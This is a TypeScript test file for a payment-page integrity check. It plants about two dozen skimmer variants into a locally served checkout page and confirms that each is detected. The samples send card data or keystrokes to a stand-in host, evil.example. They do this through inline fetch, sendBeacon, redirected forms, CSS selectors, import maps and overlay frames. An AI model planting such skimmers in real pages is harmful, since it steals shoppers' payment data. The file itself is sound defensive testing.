// Skimmers that were planted in payment pages elsewhere, each in the way it came: the check finds every one (OPERATOR-83). The page is
// asked for over HTTP, as a shopper receives it.
import { existsSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { listenOnFreePort } from "#tests/support/process/free-port.ts";
import { describePage, differences } from "../../deploy/payment-pages/examine.ts";
import { fetchPage } from "../../deploy/payment-pages/fetch-page.ts";
import { listScripts } from "../../deploy/payment-pages/inventory.ts";
import { projectRoot } from "../support/gateway/fingerprint.ts";

const policy = (nonce: string) =>
	`default-src 'self'; script-src 'nonce-${nonce}' 'strict-dynamic'; form-action 'self' https://pay.example; base-uri 'none'`;
let answers = 0;

interface Site {
	headers: Record<string, string>;
	html: string;
	files: Record<string, string>;
}

/** A page as the shop's own: another nonce and other data in each answer. */
function clean(): Site {
	answers += 1;
	const nonce = `n${answers}`;
	return {
		headers: {
			"content-type": "text/html",
			"content-security-policy": policy(nonce),
			"x-frame-options": "DENY",
			date: new Date().toUTCString(),
		},
		html: `<!doctype html><html lang="en"><head><link rel="stylesheet" href="/assets/app-1.css"><link rel="modulepreload" href="/assets/start-1.js"></head><body>
<h1>Order ${answers}</h1><img src="/images/a.webp" alt="">
<form method="post" action="/en/order-payment/"><input name="method" value="visa"><button>Pay</button></form>
<script nonce="${nonce}">window.context.enqueue("order ${answers}");</script>
<script type="application/json" id="modules">{"modules":["/assets/entry-1.js"]}</script></body></html>`,
		files: {
			"/assets/app-1.css": "body{background:url(data:image/png;base64,AA)}",
			"/assets/start-1.js": 'import"./entry-1.js";',
			"/assets/entry-1.js": 'import("./later-1.js");',
			"/assets/later-1.js": "export const later = 1;",
		},
	};
}

const inBody = (site: Site, markup: string): Site => ({
	...site,
	html: site.html.replace("</body>", `${markup}</body>`),
});
const inHead = (site: Site, markup: string): Site => ({
	...site,
	html: site.html.replace("</head>", `${markup}</head>`),
});
const inFile = (site: Site, name: string, text: string): Site => ({
	...site,
	files: { ...site.files, [name]: (site.files[name] ?? "") + text },
});
const header = (site: Site, name: string, value: string | null): Site => {
	const { [name]: _, ...headers } = site.headers;
	return { ...site, headers: value === null ? headers : { ...headers, [name]: value } };
};

const skimmers: readonly [name: string, plant: (site: Site) => Site, told: RegExp][] = [
	[
		"an inline script",
		(s) => inBody(s, '<script>fetch("//evil.example/"+document.forms[0].card.value)</script>'),
		/inline added: script/,
	],
	[
		"code behind the router's own",
		(s) => ({ ...s, html: s.html.replace("</script>", 'fetch("//evil.example")</script>') }),
		/inline added: script/,
	],
	[
		"a changed chunk",
		(s) =>
			inFile(
				s,
				"/assets/entry-1.js",
				'addEventListener("input",e=>navigator.sendBeacon("//evil.example",e.target.value))',
			),
		/file changed: .*entry-1/,
	],
	[
		"a changed chunk that only another chunk imports",
		(s) => inFile(s, "/assets/later-1.js", "steal()"),
		/file changed: .*later-1/,
	],
	[
		"a script of another host",
		(s) => inBody(s, '<script src="https://cdn.evil.example/jquery.js"></script>'),
		/target added: script classic https:\/\/cdn\.evil/,
	],
	[
		"a script of our own address that was not there",
		(s) => inBody(s, '<script src="/images/pixel"></script>'),
		/target added: script classic .*\/images\/pixel/,
	],
	[
		"a policy that lets another host in",
		(s) => header(s, "content-security-policy", `${policy("n")} https://evil.example`),
		/header content-security-policy/,
	],
	[
		"a policy that is gone",
		(s) => header(s, "content-security-policy", null),
		/header content-security-policy: .* → \(none\)/,
	],
	[
		"a page that may be framed",
		(s) => header(s, "x-frame-options", null),
		/header x-frame-options/,
	],
	[
		"a form that leads elsewhere",
		(s) => ({ ...s, html: s.html.replace('action="/en/', 'action="https://evil.example/en/') }),
		/target added: form https:\/\/evil/,
	],
	[
		"a button that sends the form elsewhere",
		(s) => ({
			...s,
			html: s.html.replace("<button>", '<button formaction="https://evil.example/">'),
		}),
		/target added: button formaction/,
	],
	[
		"a frame over the page",
		(s) => inBody(s, '<iframe src="/en/pay" style="position:fixed;inset:0"></iframe>'),
		/target added: frame/,
	],
	[
		"a handler in an attribute",
		(s) => inBody(s, '<img src="/images/a.webp" alt="" onload="steal()">'),
		/target added: handler img onload/,
	],
	[
		"an address that is a script",
		(s) => inBody(s, '<a href="java\tscript:steal()">Pay</a>'),
		/target added: script in a href/,
	],
	[
		"a service worker",
		(s) =>
			header(
				inBody(s, '<script>navigator.serviceWorker.register("/sw.js")</script>'),
				"service-worker-allowed",
				"/",
			),
		/header service-worker-allowed/,
	],
	[
		"another base",
		(s) => inHead(s, '<base href="https://evil.example/">'),
		/target added: base https/,
	],
	[
		"a refresh in the page",
		(s) => inHead(s, '<meta http-equiv="refresh" content="3;url=https://evil.example/pay">'),
		/target added: meta refresh/,
	],
	[
		"a refresh in a header",
		(s) => header(s, "refresh", "3;url=https://evil.example/pay"),
		/header refresh/,
	],
	[
		"styles that send what is typed",
		(s) => inHead(s, "<style>input[value^='4']{background:url(https://evil.example/4)}</style>"),
		/target added: style https:\/\/evil/,
	],
	[
		"a style sheet that sends what is typed",
		(s) => inFile(s, "/assets/app-1.css", "input[value^='4']{background:url(//evil.example/4)}"),
		/target added: style sheet/,
	],
	[
		"a module that is preloaded",
		(s) => inHead(s, '<link rel="modulepreload" href="https://evil.example/m">'),
		/target added: link href https:\/\/evil/,
	],
	[
		"a link in a header",
		(s) => header(s, "link", "<https://evil.example/m.js>; rel=modulepreload"),
		/header link/,
	],
	[
		"a picture that is a beacon",
		(s) => inBody(s, '<img src="https://evil.example/p.gif?c=1" alt="">'),
		/target added: img src/,
	],
	[
		"an import map",
		(s) =>
			inHead(
				s,
				'<script type="importmap">{"imports":{"/assets/entry-1.js":"https://evil.example/e.js"}}</script>',
			),
		/inline added: script importmap/,
	],
	["an object", (s) => inBody(s, '<object data="/assets/x.swf"></object>'), /target added: frame/],
];

let site = clean();
let server: Server;
let url = "";
beforeAll(async () => {
	server = createServer(({ url: path = "" }, answer) => {
		const file = site.files[path];
		if (path === "/en/order-payment/") answer.writeHead(200, site.headers).end(site.html);
		else answer.writeHead(file === undefined ? 404 : 200).end(file ?? "");
	});
	const port = await listenOnFreePort(server);
	url = `http://127.0.0.1:${port}/en/order-payment/`;
});
afterAll(() => server?.close());

async function receive(given: Site) {
	site = given;
	return describePage(await fetchPage(url, {}));
}

describe.skipIf(!existsSync(join(projectRoot, "build/server/index.js")))("the build", () => {
	it("has a reason for each script of a payment page, and the document lists them all (OPERATOR-83)", async () => {
		const scripts = await listScripts(join(projectRoot, "build"));
		expect(scripts.length).toBeGreaterThan(20);
		expect(scripts.filter(({ reason }) => reason === null).map(({ name }) => name)).toEqual([]);
		const listed = readFileSync(join(projectRoot, "docs/payment-scripts.md"), "utf8");
		expect(scripts.filter(({ name }) => !listed.includes(`\`${name}\``))).toEqual([]);
	});
});

describe("a payment page as a shopper receives it (OPERATOR-83)", () => {
	it("is as approved, whatever its data and its nonce are", async () => {
		const approved = await receive(clean());
		expect(Object.keys(approved.files)).toHaveLength(4);
		expect(differences(approved, await receive(clean()))).toEqual([]);
	});

	it.each(skimmers)("is found with %s", async (_, plant, told) => {
		const approved = await receive(clean());
		const found = differences(approved, await receive(plant(clean())));
		expect(found.join("\n")).toMatch(told);
	});

	it("keeps its customer signed in: renewed tokens are what is sent next", async () => {
		const kept: string[] = [];
		const keepCookie = (cookie: string) => kept.push(cookie);
		site = clean();
		site.headers["set-cookie"] = "token=renewed; Path=/; HttpOnly";
		await fetchPage(url, { cookie: "other=1; token=first", keepCookie });
		site.headers["set-cookie"] = "other=; Max-Age=0";
		await fetchPage(url, { cookie: kept[0], keepCookie });
		expect(kept).toEqual(["other=1; token=renewed", "token=renewed"]);
	});

	it("is not taken for another page that a redirect leads to", async () => {
		await expect(fetchPage(url.replace("payment", "cart"), {})).rejects.toThrow("answered 404");
	});
});
